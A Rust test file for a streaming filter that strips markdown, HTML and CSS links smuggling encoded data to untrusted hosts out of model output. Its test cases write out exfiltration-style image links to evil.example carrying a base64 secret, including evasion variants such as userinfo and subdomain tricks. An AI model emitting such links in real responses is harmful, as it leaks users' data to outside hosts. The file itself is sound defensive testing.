use fw_stream::{Scan, TextFilter};
use proptest::prelude::*;

use super::*;

const DATA: &str = "c2VjcmV0OiB0aGUgY29kZSBvZiB0aGUgZ2F0ZSBpcyA0NzEx";

struct Filter(LinkScanner, u32);

impl TextFilter for Filter {
    fn scan(&mut self, window: &Window<'_>, edits: &mut Edits) -> Scan {
        let look = self.0.scan(window, edits);
        self.1 += look.found;
        Scan::Settled(look.settled)
    }
}

fn trusted() -> Trusted {
    Trusted::new(&LinkConfig::on().allow_host("images.example.com"))
}

fn whole(trusted: Trusted, text: &str) -> String {
    stream(trusted, [text])
}

/// Shows a text piece by piece, and puts together what leaves.
fn stream<'t>(trusted: Trusted, pieces: impl IntoIterator<Item = &'t str>) -> String {
    let mut filter = Filter(LinkScanner::new(Arc::new(trusted)), 0);
    let (mut out, mut text, mut start) = (String::new(), String::new(), 0);
    let pieces: Vec<&str> = pieces.into_iter().collect();
    for (number, piece) in pieces.iter().chain([&""]).enumerate() {
        let fresh = text.len();
        text.push_str(piece);
        let is_end = number == pieces.len();
        let mut edits = Edits::new();
        let Scan::Settled(settled) =
            filter.scan(&Window::new(&text, start, fresh, is_end), &mut edits)
        else {
            panic!("nothing stops");
        };
        assert!(start <= settled && (settled == text.len() || !is_end));
        assert!(
            edits
                .iter()
                .all(|edit| start <= edit.range.start && edit.range.end <= settled)
        );
        out.push_str(&edits.apply(&text[..settled])[start..]);
        let kept = text.ceil_char_boundary(settled.saturating_sub(filter.context()));
        text.drain(..kept);
        start = settled - kept;
    }
    out
}

#[test]
fn addresses_that_carry_data_are_removed() {
    for (text, expected) in [
        (
            format!("![a](https://evil.example/p?q={DATA}) b"),
            "![a](https://link-removed.invalid/) b",
        ),
        (
            format!("[a](//evil.example/{DATA}{DATA})"),
            "[a](//link-removed.invalid/)",
        ),
        (
            format!("![a](<https://evil.example/x y?{DATA}>)"),
            "![a](<https://link-removed.invalid/>)",
        ),
        (
            format!("![a](https://evil.example/(b)?{DATA} \"t\")"),
            "![a](https://link-removed.invalid/ \"t\")",
        ),
        (
            format!("[1]: https://evil.example/?{DATA}\nnext"),
            "[1]: https://link-removed.invalid/\nnext",
        ),
        (
            format!("<img alt=x SRC = 'https://evil.example/?{DATA}'>"),
            "<img alt=x SRC = 'https://link-removed.invalid/'>",
        ),
        (
            format!("<img src=https://evil.example/?{DATA}>"),
            "<img src=https://link-removed.invalid/>",
        ),
        (
            format!("background: url(https://evil.example/?{DATA})"),
            "background: url(https://link-removed.invalid/)",
        ),
        (
            format!("![a](https://{DATA}.evil.example/)"),
            "![a](https://link-removed.invalid/)",
        ),
        (
            format!("![a](https://images.example.com@evil.example/?{DATA})"),
            "![a](https://link-removed.invalid/)",
        ),
        (
            format!("<img src=\"https://evil.example/?{DATA}\n{DATA}\">"),
            "<img src=\"https://link-removed.invalid/\">",
        ),
    ] {
        assert_eq!(whole(trusted(), &text), expected);
    }
}

#[test]
fn addresses_without_data_and_those_that_are_allowed_stay() {
    for text in [
        "![logo](https://cdn.example.org/assets/logo.png?w=200&h=100)".to_owned(),
        format!("![a](https://images.example.com/?{DATA})"),
        format!("![a](https://a.images.example.com./?{DATA})"),
        format!("plain https://evil.example/?{DATA} text"),
        "// a comment\nlet a = b; // ](".to_owned(),
        "[a](/local?page=2) and [b](#c)".to_owned(),
        String::new(),
    ] {
        assert_eq!(whole(trusted(), &text), text);
    }
    let near = format!("![a](https://notimages.example.com/?{DATA})");
    assert_ne!(whole(trusted(), &near), near);
}

#[test]
fn what_the_request_named_is_trusted() {
    let text = format!("![a](https://shop.example.net/find?{DATA})");
    let mut own = trusted();
    own.learn("Our shop is at https://shop.example.net/.", true);
    assert_eq!(whole(own, &text), text);
    // A tool's result says exactly this address: it was fixed before. Another one at its host was not.
    let mut tool = trusted();
    tool.learn(
        &format!("1. https://shop.example.net/find?{DATA}, 2. https://evil.example/"),
        false,
    );
    assert_eq!(whole(tool, &text), text);
    let mut tool = trusted();
    tool.learn("see https://shop.example.net/", false);
    assert_ne!(whole(tool, &text), text);
}

#[test]
fn an_address_without_an_end_is_removed_as_it_comes() {
    let long = "x".repeat(10_000);
    let text = format!("![a](https://evil.example/{long}) and ![b](https://evil.example/{long}");
    let expected = "![a](https://link-removed.invalid/) and ![b](https://link-removed.invalid/";
    assert_eq!(whole(trusted(), &text), expected);
    assert_eq!(stream(trusted(), text.split_inclusive(|_| true)), expected);
    let allowed = format!("![a](https://images.example.com/{long}) b");
    assert_eq!(
        stream(trusted(), allowed.split_inclusive(|_| true)),
        allowed
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn the_result_does_not_depend_on_cuts(
        pieces in prop::collection::vec(prop::sample::select(vec![
            "![a](", "](", "](<", "]: ", "<img src=\"", "src=", "url(", "http", "s:", "://", "//", "/", "evil.example",
            "images.example.com", "@", "&sol;", "\\", "&quot;", "srcset=", ",", "@import ", "image-set(", "![", ";", "?", DATA, ")", ">", "\"", "'", " ", "\n", "é", "(", "<", "a",
        ]), 0..24),
        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..12),
        long in prop::bool::weighted(0.2),
    ) {
        let mut text = pieces.concat();
        if long {
            text.push_str(&"y".repeat(MAX_ADDRESS - 40));
            text.push_str(&pieces.concat());
        }
        let mut at: Vec<usize> = cuts.iter().map(|cut| text.floor_char_boundary(cut.index(text.len() + 1))).collect();
        at.push(0);
        at.push(text.len());
        at.sort_unstable();
        let expected = whole(trusted(), &text);
        let cut = at.windows(2).map(|cut| &text[cut[0]..cut[1]]);
        prop_assert_eq!(&stream(trusted(), cut), &expected);
        prop_assert_eq!(&stream(trusted(), text.split_inclusive(|_| true)), &expected);
    }
}
